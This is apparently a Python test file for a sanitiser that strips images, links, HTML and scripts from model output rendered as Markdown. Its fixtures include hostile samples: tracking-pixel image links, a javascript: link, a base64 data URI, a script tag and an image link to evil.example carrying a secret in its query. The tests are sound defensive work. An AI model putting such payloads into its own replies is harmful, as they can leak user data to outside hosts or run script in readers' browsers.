"""Model output rendered as Markdown never loads, links to or runs anything (issue #15 item 4)."""

import re

from hypothesis import given
from hypothesis import strategies as st

from core.text.safe_markdown import ZWSP, safe_llm_markdown, safe_plain

HOSTILE = (
    '![x](http://127.0.0.1:9/pixel?q=1) <img src="http://127.0.0.1:9/pixel?html=1"> '
    "[押して](javascript:alert(1)) [データ](data:text/html;base64,PHNjcmlwdD4=) "
    "<script>alert(1)</script> $\\href{http://127.0.0.1:9/k}{x}$ <http://127.0.0.1:9/auto> "
    "![ref][p]\n\n[p]: http://127.0.0.1:9/pixel?ref=1\n"
)


def test_inline_and_reference_images_become_text():
    text = '結果です ![x](https://evil.example/?q=秘密) と ![](http://a/b.png "t") と ![logo][1]\n\n[1]: http://a/l.png'
    out = safe_llm_markdown(text)
    assert "![" not in out and "](" not in out
    assert "画像: x（evil.example）" in out
    assert "画像: リンク（a）" in out and "!\\[logo\\]\\[1\\]" in out and "\\[1\\]: a" in out


def test_plain_markdown_formatting_is_untouched():
    text = "**太字** と `![code]` と 感嘆符! と\n\n- 箇条書き\n\n```python\nx = '<b>'\n```"
    assert safe_llm_markdown(text) == text


def test_links_are_text_with_their_host():
    out = safe_llm_markdown("[リンク](https://example.com/a?q=1) と [押して](javascript:alert(1))")
    assert out == "リンク（example.com） と 押して（リンク削除）"


def test_stacked_exclamation_marks_do_not_rebuild_an_image():
    out = safe_llm_markdown("!!![a](http://x/y.png)")
    assert "![" not in out and out == "!!画像: a（x）"


def test_hostile_payload_has_nothing_left_to_fetch():
    out = safe_llm_markdown(HOSTILE)
    assert "<" not in out and "](" not in out and "![" not in out
    assert "javascript:" not in out and "data:text" not in out
    assert "http://" not in out  # bare URLs carry a zero-width space: not auto-linked
    assert f"http:{ZWSP}//" in out and "\\$" in out


def test_labels_are_one_line_and_capped():
    assert safe_plain("![x](http://a/p)\n二行目", max_chars=40) == "画像: x（a） 二行目"
    assert safe_plain("あ" * 100, max_chars=10) == "あ" * 9 + "…"


def test_a_long_text_stays_fast():
    out = safe_llm_markdown(("![x](http://e/p) 長い返信 <b> $ `c` [a](b) " * 50_000)[:2_000_000])
    assert "![" not in out


@given(st.text(alphabet="![]()ab: \n<>`$h/.", max_size=60))
def test_no_image_or_link_syntax_survives(text):
    out = safe_llm_markdown(text)
    assert safe_llm_markdown(out) == out
    assert re.search(r"(?<!\\)!\[[^\]\n]*(?<!\\)\]\([^)\n]*\)", out) is None
    assert re.search(r"(?<!\\)\[[^\]\n]*(?<!\\)\]\(", out) is None


def test_a_bracket_after_an_escaped_backslash_is_escaped_too():
    """`\\\\` is a literal backslash, so a bracket after it would still be live Markdown; an escaped bracket is left
    as it is (the function stays idempotent)."""
    assert safe_llm_markdown("a\\\\](b") == "a\\\\\\](b"
    assert safe_llm_markdown("\\\\[x") == "\\\\\\[x"
    assert safe_llm_markdown("\\](") == "\\]("
